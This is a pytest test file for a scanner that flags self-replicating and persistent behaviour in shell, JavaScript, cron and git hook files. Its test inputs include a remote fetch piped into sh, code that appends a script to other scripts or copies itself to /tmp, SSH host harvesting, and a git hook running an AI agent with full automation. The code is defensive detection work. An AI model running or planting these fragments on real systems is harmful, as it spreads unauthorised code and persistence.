"""The shell/JS/persistence self-replication pack: the shell tokenizer and provenance model, the
cross-file linking pass, and the report fields it adds (related locations in other files)."""
from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from artefact_scan.context import Context, Limits
from artefact_scan.detectors.js_lex import JsView
from artefact_scan.detectors.shell_model import ShellModel
from artefact_scan.detectors.shell_syntax import Script, unwrap
from artefact_scan.linking import resolve
from artefact_scan.model import Artefact

from .conftest import FIXTURES


def _cmds(text):
    s = Script(text)
    return [(c.argv(), c.sep, tuple(f.kind for f in c.frames)) for c in s.commands if c.words]


def test_quotes_comments_and_separators():
    got = _cmds("echo 'a # b' \"c $(date)\" # trailing comment\nls -l | wc -l && true &\n")
    assert (["echo", "a # b", "c $(date)"], "\n", ()) in got
    assert (["date"], "", ("subst",)) in got
    assert (["ls", "-l"], "|", ()) in got
    assert (["wc", "-l"], "&&", ()) in got
    assert (["true"], "&", ()) in got


def test_heredoc_body_is_data_unless_fed_to_a_shell():
    text = "cat > x.service <<'EOF'\nExecStart=/tmp/.x\nEOF\nbash <<EOF\nnohup /tmp/.y &\nEOF\necho done\n"
    s = Script(text)
    cat = next(c for c in s.commands if c.argv()[:1] == ["cat"])
    body = cat.redirects[-1].body
    assert text[body[0]:body[1]] == "ExecStart=/tmp/.x\n"
    assert cat.redirects[-1].body_quoted
    argvs = [c.argv() for c in s.commands]
    assert ["nohup", "/tmp/.y"] in argvs  # parsed: fed to bash
    assert not any(a and a[0].startswith("ExecStart") for a in argvs)  # not parsed: data
    assert ["echo", "done"] in argvs


def test_loops_functions_case_and_background_blocks():
    text = ("for f in *.sh; do\n  cat \"$0\" >> \"$f\"\ndone\n"
            "f() { echo in; }\n"
            "case $1 in\n  start) run ;;\n  (stop) halt ;;\nesac\n"
            "while true; do sleep 1; done &\n")
    s = Script(text)
    cat = next(c for c in s.commands if c.argv()[:1] == ["cat"])
    assert [f.kind for f in cat.frames] == ["for"] and cat.frames[0].var == "f"
    assert cat.redirects[0].op == ">>" and cat.redirects[0].target.value == "$f"
    assert next(c for c in s.commands if c.argv() == ["echo", "in"]).frames[0].kind == "func"
    assert ["run"] in [c.argv() for c in s.commands] and ["halt"] in [c.argv() for c in s.commands]
    assert not any(c.argv()[:1] in (["start)"], ["start"]) for c in s.commands)
    sleep = next(c for c in s.commands if c.argv() == ["sleep", "1"])
    assert sleep.frames[0].background


def test_code_strings_are_parsed_as_commands():
    s = Script("trap 'cp \"$0\" /tmp/.k; nohup /tmp/.k &' TERM\nssh h \"curl -s http://x | sh\"\nsh -c 'id'\n")
    argvs = [(c.argv(), tuple(f.kind for f in c.frames)) for c in s.commands]
    assert (["cp", "$0", "/tmp/.k"], ("string",)) in argvs
    assert (["sh"], ("string",)) in argvs
    assert (["id"], ("string",)) in argvs


def test_unwrap_strips_wrappers_and_assignments():
    s = Script("FOO=1 sudo -u bob nohup nice -n 5 ./run.sh --x &\n")
    words, wrappers = unwrap(s.commands[0])
    assert [w.value for w in words] == ["./run.sh", "--x"]
    assert wrappers == ["sudo", "nohup", "nice"]


def test_self_labels_and_path_arithmetic():
    m = ShellModel('SELF=$(readlink -f "$0")\nDIR="$(cd "$(dirname "$0")" && pwd)"\n'
                   'ME="$DIR/$(basename "$0")"\nLIB="$DIR/lib.sh"\nP=$(head -n 5 "$0")\n')
    assert m.is_self("$SELF") and m.is_self('"${SELF}"') and m.is_self("$ME")
    assert m.is_selfdir("$DIR") and not m.is_self("$DIR")
    assert not m.is_self("$LIB") and not m.is_self('"$(dirname "$0")/x"')
    assert "selfcontent" in m.labels["P"]


def test_hosts_harvested_through_variables_functions_and_redirects():
    m = ShellModel("hs=$(awk '{print $1}' ~/.ssh/known_hosts)\nfor h in $hs; do :; done\n"
                   "get() { grep HostName ~/.ssh/config; }\nfor t in $(get); do :; done\n"
                   "while read -r x; do :; done < /etc/hosts\nfor i in inventory; do :; done\n")
    assert "hosts" in m.labels["h"] and "hosts" in m.labels["t"] and "hosts" in m.labels["x"]
    assert "hosts" not in m.labels.get("i", set())


@pytest.mark.parametrize("text", [
    "echo " + "$(" * 3000 + "x" + ")" * 3000,
    "a=\"$(" * 2000,
    "'" * 5001,
    "cat <<EOF\n" + "x\n" * 1000,
    "for x in y; do " * 2000,
    "((" * 1000,
])
def test_hostile_shell_is_bounded(text):
    t0 = time.monotonic()
    try:
        Script(text)
    except RecursionError:
        pass  # the engine reports it as "nested too deeply"
    assert time.monotonic() - t0 < 5


def test_js_view_blanks_comments_keeps_strings_and_offsets():
    text = "// fork(__filename)\nconst u = 'http://x/y'; /* spawn(\n__filename) */ run(`a${b}c`);\n"
    v = JsView(text)
    assert len(v.code) == len(text) and v.code.count("\n") == text.count("\n")
    assert "__filename" not in v.code and "'http://x/y'" in v.code
    assert v.in_string(text.index("http")) and not v.in_string(text.index("run"))


def test_resolve_needs_the_directory_or_a_unique_name():
    paths = ["run/agent/keep.sh", "other/keep.sh", "solo.sh", "a/x/worm.sh"]
    by_base: dict[str, list[str]] = {}
    for p in paths:
        by_base.setdefault(p.rsplit("/", 1)[-1], []).append(p)
    assert resolve("/home/dev/agent/keep.sh", paths, by_base) == ["run/agent/keep.sh"]
    assert resolve("/opt/zzz/keep.sh", paths, by_base) == []  # only the name agrees
    assert resolve("solo.sh", paths, by_base) == ["solo.sh"]
    assert resolve("keep.sh", paths, by_base) == []  # ambiguous bare name
    assert resolve("$(which worm.sh)", paths, by_base) == []


def test_context_link_records_the_root_line():
    text = "# c\n@reboot /opt/a/k.sh\n"
    root = Artefact("f", "crontab", "crontab", text)
    ctx = Context("f", Limits())
    start = text.index("/opt")
    ctx.link(root, start, start + 11, "/opt/a/k.sh", "cron")
    [ln] = ctx.links
    assert (ln.location.line, ln.location.column) == (2, 9)
    assert ln.snippet == "@reboot /opt/a/k.sh" and ln.mechanism == "cron"


def _scan(paths, jobs, fmt="json", select=("SR",)):
    from artefact_scan import load_rules
    from artefact_scan.reports import render
    from artefact_scan.scanner import Options, run

    rs = load_rules().select(list(select), None)
    res = run([str(p) for p in paths], rs, Options(jobs=jobs))
    return res, render(fmt, res)


LINKING = FIXTURES / "rules" / "self-replication" / "linking"


def test_linking_is_independent_of_jobs_and_reports_the_other_file():
    r1, j1 = _scan([LINKING], 1)
    r2, j2 = _scan([LINKING], 2)
    d1, d2 = json.loads(j1), json.loads(j2)
    for d in (d1, d2):
        d["summary"].pop("seconds")
    assert d1 == d2
    chain = [f for f in d1["findings"] if f["rule_id"] == "SR490"]
    targets = sorted(Path(rel["path"]).name for f in chain for rel in f["related"])
    assert targets == ["keepalive.sh", "keepalive.sh", "setup.js"]
    assert {Path(f["path"]).name for f in chain} == {"agent", "agent-sync.service", "package.json"}
    raised = next(f for f in d1["findings"] if f["rule_id"] == "SR202")
    assert raised["severity"] == "error"
    assert {Path(r["path"]).name for r in raised["related"] if "path" in r} == {"agent", "agent-sync.service"}


def test_sarif_related_locations_use_the_other_files_uri():
    _res, sarif = _scan([LINKING], 1, fmt="sarif")
    doc = json.loads(sarif)
    results = [r for r in doc["runs"][0]["results"] if r["ruleId"] == "SR490"]
    assert results
    for r in results:
        here = r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        uris = {loc["physicalLocation"]["artifactLocation"]["uri"] for loc in r["relatedLocations"]}
        assert uris and all(u.endswith(("keepalive.sh", "setup.js")) and u != here for u in uris)
        step = r["codeFlows"][0]["threadFlows"][0]["locations"][1]["location"]["physicalLocation"]
        assert step["artifactLocation"]["uri"] in uris


def test_no_linking_without_sr490(tmp_path):
    res, _ = _scan([LINKING], 1, select=("SR202", "SR402"))
    assert not [f for f in res.findings if f.rule_id == "SR490"]
    assert next(f for f in res.findings if f.rule_id == "SR202").severity == "warning"


def test_git_hook_runs_an_agent_unattended(tmp_path):
    hooks = tmp_path / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "post-checkout").write_text("#!/bin/sh\ncodex exec --full-auto 'resume' >/dev/null 2>&1\n")
    (hooks / "pre-commit.sample").write_text("#!/bin/sh\ncodex exec --full-auto 'resume'\n")
    res, _ = _scan([tmp_path], 1)
    got = {(Path(f.path).name, f.rule_id) for f in res.findings}
    assert got == {("post-checkout", "SR210")}


@pytest.mark.parametrize("text", [
    "g --dangerously-skip-permissions || TERM cp function $( scp <(",  # found by fuzzing: a hang
    "ssh *.sh cp \" echo TERM ) ~/.bashrc \"$0\" nohup ${ ;; =~ /tmp/.x nohup { ssh",  # an IndexError
    "cat <(", "x >(", "$(( 1 << 2 ))\ncat <<EOF\n$(\nEOF\n",
])
def test_fuzz_regressions_terminate(text):
    from artefact_scan.detectors import load_all

    det = load_all()["shell-behaviour"]
    art = Artefact("f.sh", "f.sh", "shell", text)
    t0 = time.monotonic()
    det.fn(art, Context("f.sh", Limits()))
    assert time.monotonic() - t0 < 2
